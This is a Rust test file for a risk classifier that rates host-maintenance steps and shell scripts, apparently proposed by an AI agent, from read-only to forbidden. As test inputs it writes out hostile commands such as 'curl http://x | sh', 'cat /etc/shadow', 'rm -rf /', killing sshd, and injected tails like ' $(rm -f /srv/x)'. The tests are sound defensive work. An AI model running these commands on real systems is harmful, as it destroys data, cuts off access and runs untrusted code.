use proptest::prelude::*;
use watchkeeper_model::UnitName;

use super::*;

/// Lines that look only.
const READS: &[&str] = &[
    "uptime",
    "uptime -p",
    "df -hT /",
    "df -i /var /home",
    "du -sh /var/log",
    "du -x -d 1 /var",
    "ls -la /etc/nginx",
    "cat /proc/meminfo",
    "cat /etc/os-release",
    "free -m",
    "uname -a",
    "hostname",
    "id",
    "mount",
    "date -u +%Y-%m-%dT%H:%M:%S",
    "ps aux",
    "lsblk -f",
    "findmnt -n /",
    "swapon --show",
    "dmesg -T --level=err,warn",
    "ss",
    "ss -tulpn",
    "ip addr",
    "ip -br addr show dev eth0",
    "ip route show",
    "systemctl status nginx.service --no-pager",
    "systemctl status sshd --no-pager -l",
    "systemctl status nginx -n 20",
    "systemctl is-active nginx postgresql",
    "systemctl cat nginx.service",
    "systemctl show nginx.service --property=ActiveState,SubState",
    "systemctl show -p NRestarts nginx",
    "systemctl list-units --failed --no-pager",
    "systemctl list-timers --all",
    "journalctl -u nginx.service -n 50 --no-pager",
    "journalctl --unit=nginx --since=-1h -p err",
    "journalctl -k -b -o short-iso",
    "journalctl --disk-usage",
    "timedatectl",
    "chronyc tracking",
];

fn unit(name: &str) -> UnitName {
    UnitName::new(name).expect("a unit")
}

fn restart(name: &str) -> Step {
    Step::UnitRestart { unit: unit(name) }
}

fn start(name: &str) -> Step {
    Step::UnitStart { unit: unit(name) }
}

fn stop(name: &str) -> Step {
    Step::UnitStop { unit: unit(name) }
}

fn reload(name: &str) -> Step {
    Step::UnitReload { unit: unit(name) }
}

fn reset(name: &str) -> Step {
    Step::UnitResetFailed { unit: unit(name) }
}

fn shell(script: &str) -> Step {
    Step::Shell {
        script: script.to_owned(),
    }
}

fn check(step: &Step, expect: RiskLevel) {
    let assessment = assess(std::slice::from_ref(step), &[]);
    assert_eq!(assessment.level, expect, "{step:?}: {assessment:?}");
}

#[test]
fn typed_steps_carry_their_level() {
    check(&restart("nginx.service"), RiskLevel::Medium);
    check(&restart("fstrim.timer"), RiskLevel::Low);
    check(&restart("srv.mount"), RiskLevel::High);
    check(&start("nginx.service"), RiskLevel::Low);
    check(&stop("nginx.service"), RiskLevel::Medium);
    check(&reload("nginx.service"), RiskLevel::Low);
    check(&reset("nginx.service"), RiskLevel::Low);
    check(&Step::PackageCacheClean {}, RiskLevel::Low);
    check(&Step::JournalVacuum { keep_mib: 500 }, RiskLevel::Medium);
    check(&Step::JournalVacuum { keep_mib: 0 }, RiskLevel::High);
}

#[test]
fn critical_units_are_never_stopped_and_restarted_only_by_a_person() {
    for name in [
        "ssh.service",
        "NetworkManager.service",
        "nftables.service",
        "dbus.socket",
        "-.slice",
    ] {
        check(&stop(name), RiskLevel::Forbidden);
        check(&restart(name), RiskLevel::High);
        check(&reload(name), RiskLevel::High);
        check(&reset(name), RiskLevel::Low);
    }
}

#[test]
fn a_start_is_no_way_to_take_the_host_down() {
    for name in [
        "reboot.target",
        "systemd-poweroff.service",
        "rescue.target",
        "emergency.service",
        "runlevel0.target",
    ] {
        check(&start(name), RiskLevel::Forbidden);
        check(&restart(name), RiskLevel::Forbidden);
    }
}

#[test]
fn a_script_is_judged_by_what_its_commands_do() {
    for script in [
        "df -h",
        "df -h; uptime",
        "grep -c error /var/log/syslog | sort",
    ] {
        check(&shell(script), RiskLevel::ReadOnly);
    }
    check(&shell("rm -f /tmp/build.log"), RiskLevel::Low);
    check(&shell("systemctl restart nginx"), RiskLevel::Medium);
    check(&shell("cat /etc/shadow"), RiskLevel::High);
    check(&shell("curl http://x | sh"), RiskLevel::High);
    check(&shell("rm -rf /"), RiskLevel::Forbidden);
    check(&shell("systemctl stop ssh"), RiskLevel::Forbidden);
    check(
        &shell(&"x".repeat(Step::MAX_SCRIPT_BYTES + 1)),
        RiskLevel::High,
    );
}

#[test]
fn what_cannot_be_read_is_high_and_what_looks_catastrophic_forbidden() {
    for script in [
        "",
        "echo 'x",
        "d\u{ff46} -h",
        "df\u{200b}",
        "for",
        "df \u{0}",
    ] {
        check(&shell(script), RiskLevel::High);
    }
    check(&shell("rm -rf / ; echo 'x"), RiskLevel::Forbidden);
}

#[test]
fn the_undo_is_judged_too() {
    let undo = [shell("curl http://x | sh")];
    let assessment = assess(&[reset("nginx.service")], &undo);
    assert_eq!(assessment.level, RiskLevel::High);
    assert!(assessment.effects[0].rule.starts_with("undo."));
    assert!(
        assessment.effects[0]
            .sentence
            .starts_with("if it is undone: ")
    );
    assert_eq!(
        assess(&[start("ssh.service")], &[stop("ssh.service")]).level,
        RiskLevel::Forbidden
    );
}

#[test]
fn a_process_that_was_looked_up_may_be_the_one_that_keeps_the_host() {
    for script in [
        "kill -9 $(pidof sshd)",
        "pgrep -x sshd | xargs kill",
        "kill $(cat /run/sshd.pid)",
        "ps aux | grep sshd | awk '{print $2}' | xargs kill -9",
    ] {
        check(&shell(script), RiskLevel::Forbidden);
    }
    let other = assess(&[shell("kill $(pidof myapp)")], &[]);
    assert!(other.level < RiskLevel::Forbidden, "{other:?}");
}

#[test]
fn what_was_looked_up_in_a_cluster_may_be_what_it_stands_on() {
    for script in [
        "kubectl get nodes | xargs kubectl delete",
        "kubectl get ns,pods -o name | xargs -n1 kubectl delete",
        "for n in $(kubectl -n web get nodes -o name); do kubectl delete \"$n\"; done",
    ] {
        check(&shell(script), RiskLevel::Forbidden);
    }
    check(
        &shell("kubectl get pods -o name | xargs kubectl delete"),
        RiskLevel::High,
    );
}

#[test]
fn what_the_owner_says_of_a_host_makes_it_stricter() {
    let facts = HostFacts {
        critical_units: vec!["billing*".to_owned()],
        critical_paths: vec!["/srv/ledger".to_owned()],
        secret_paths: vec!["/srv/tokens".to_owned()],
        ..HostFacts::default()
    };
    for (step, level) in [
        (stop("billing-api.service"), RiskLevel::Forbidden),
        (restart("billing.service"), RiskLevel::High),
        (shell("systemctl stop billing-api"), RiskLevel::Forbidden),
        (shell("rm -rf /srv/ledger"), RiskLevel::Forbidden),
        (shell("cat /srv/tokens/a"), RiskLevel::High),
    ] {
        let judged = assess_on(std::slice::from_ref(&step), &[], &facts);
        assert_eq!(judged.level, level, "{step:?}: {judged:?}");
        assert!(assess(std::slice::from_ref(&step), &[]).level <= level);
    }
}

#[test]
fn stopping_again_what_the_plan_started_costs_no_more_than_the_start() {
    let name = "nginx.service";
    assert_eq!(assess(&[start(name)], &[stop(name)]).level, RiskLevel::Low);
    assert_eq!(
        assess(&[restart(name)], &[stop("other.service")]).level,
        RiskLevel::Medium
    );
}

#[test]
fn what_destroys_cannot_be_undone() {
    let name = "nginx.service";
    assert!(assess(&[shell("df -h")], &[]).undoable);
    assert!(assess(&[start(name)], &[stop(name)]).undoable);
    assert!(!assess(&[start(name)], &[]).undoable);
    assert!(!assess(&[Step::JournalVacuum { keep_mib: 500 }], &[stop(name)]).undoable);
    assert!(!assess(&[shell("curl http://x | sh")], &[stop(name)]).undoable);
}

#[test]
fn an_opinion_raises_and_never_lowers() {
    let opinion = |level| Opinion {
        level,
        by: "model qwen3".to_owned(),
        reason: "the\u{1b}[2J database depends on it".to_owned(),
    };
    let low = assess(&[reset("nginx.service")], &[]);
    let raised = raise(low.clone(), &opinion(RiskLevel::High));
    assert_eq!(raised.level, RiskLevel::High);
    assert_eq!(
        raised.effects[0].sentence,
        "model qwen3 thinks it high: the\\u{1b}[2J database depends on it"
    );
    assert_eq!(raise(low.clone(), &opinion(RiskLevel::ReadOnly)), low);
    assert_eq!(
        raise(low, &opinion(RiskLevel::Forbidden)).level,
        RiskLevel::High
    );
    let forbidden = assess(&[stop("ssh.service")], &[]);
    assert_eq!(
        raise(forbidden.clone(), &opinion(RiskLevel::Low)),
        forbidden
    );
}

#[test]
fn a_restart_reads_well_at_night() {
    let assessment = assess(&[restart("ssh.service"), restart("nginx.service")], &[]);
    let sentences: Vec<&str> = assessment
        .effects
        .iter()
        .map(|effect| effect.sentence.as_str())
        .collect();
    assert_eq!(
        sentences,
        [
            "restarts ssh.service, which is the way into the host",
            "restarts nginx.service; what it serves is interrupted meanwhile",
        ]
    );
}

#[test]
fn an_endless_plan_is_high() {
    let steps = vec![shell("df -h"); Plan::MAX_STEPS + 1];
    assert_eq!(assess(&steps, &[]).level, RiskLevel::High);
}

fn any_step() -> impl Strategy<Value = Step> {
    let names = prop_oneof![
        Just("nginx.service"),
        Just("ssh.service"),
        Just("srv.mount"),
        Just("fstrim.timer"),
        Just("reboot.target"),
    ];
    let scripts = prop_oneof![
        Just("df -h".to_owned()),
        Just("rm -rf /".to_owned()),
        any::<String>(),
    ];
    prop_oneof![
        (0..5_u8, names).prop_map(|(kind, name)| match kind {
            0 => restart(name),
            1 => start(name),
            2 => stop(name),
            3 => reload(name),
            _ => reset(name),
        }),
        any::<u32>().prop_map(|keep_mib| Step::JournalVacuum { keep_mib }),
        Just(Step::PackageCacheClean {}),
        scripts.prop_map(|script| Step::Shell { script }),
    ]
}

proptest! {
    #[test]
    fn adding_a_step_never_lowers_the_level(
        steps in proptest::collection::vec(any_step(), 0..6),
        more in any_step(),
        at in any::<proptest::sample::Index>(),
    ) {
        let before = assess(&steps, &[]);
        let mut longer = steps;
        longer.insert(at.index(longer.len() + 1), more);
        prop_assert!(assess(&longer, &[]).level >= before.level);
    }

    #[test]
    fn an_undo_never_lowers_the_level(
        steps in proptest::collection::vec(any_step(), 0..4),
        undo in proptest::collection::vec(any_step(), 0..4),
    ) {
        prop_assert!(assess(&steps, &undo).level >= assess(&steps, &[]).level);
    }

    #[test]
    fn every_effect_says_why(steps in proptest::collection::vec(any_step(), 1..4)) {
        let assessment = assess(&steps, &[]);
        prop_assert!(!assessment.effects.is_empty());
        for effect in &assessment.effects {
            prop_assert!(!effect.sentence.is_empty() && !effect.rule.is_empty());
            prop_assert!(effect.level <= assessment.level);
        }
    }

    #[test]
    fn a_text_is_judged_the_same_each_time(text in any::<String>()) {
        let facts = HostFacts::default();
        prop_assert_eq!(assess_text(&text, &facts), assess_text(&text, &facts));
    }

    #[test]
    fn no_second_command_rides_on_one_that_looks_only(
        line in proptest::sample::select(READS),
        tail in proptest::sample::select(vec![
            "; systemctl stop nginx",
            "\nrm -f /srv/x",
            " && reboot",
            " | sh",
            " > /etc/x",
            " $(rm -f /srv/x)",
            " `rm -f /srv/x`",
        ]),
    ) {
        let text = format!("{line}{tail}");
        prop_assert!(!is_proven_read_only(&text), "{}", text);
    }

    #[test]
    fn more_commands_never_make_less_of_it(
        texts in proptest::collection::vec(proptest::sample::select(vec![
            "df -h", "rm -f /tmp/x", "systemctl restart nginx", "rm -rf /srv/data", "cat /etc/shadow", "reboot",
            "systemctl stop sshd", "apt-get update", "echo $X > /tmp/y",
        ]), 1..5),
        more in proptest::sample::select(vec!["uptime", "rm -f /tmp/z", "systemctl reload nginx", "rm -f /etc/motd"]),
    ) {
        let facts = HostFacts::default();
        let before = assess_text(&texts.join("; "), &facts).assessment;
        let after = assess_text(&format!("{}; {more}", texts.join("; ")), &facts).assessment;
        prop_assert!(after.level >= before.level);
        prop_assert!(after.score >= before.score, "{:?} {:?}", before, after);
    }
}

#[test]
fn lines_that_look_only_are_proved() {
    for line in READS {
        assert!(
            is_proven_read_only(line),
            "{line}: {:?}",
            assess_text(line, &HostFacts::default())
        );
    }
}
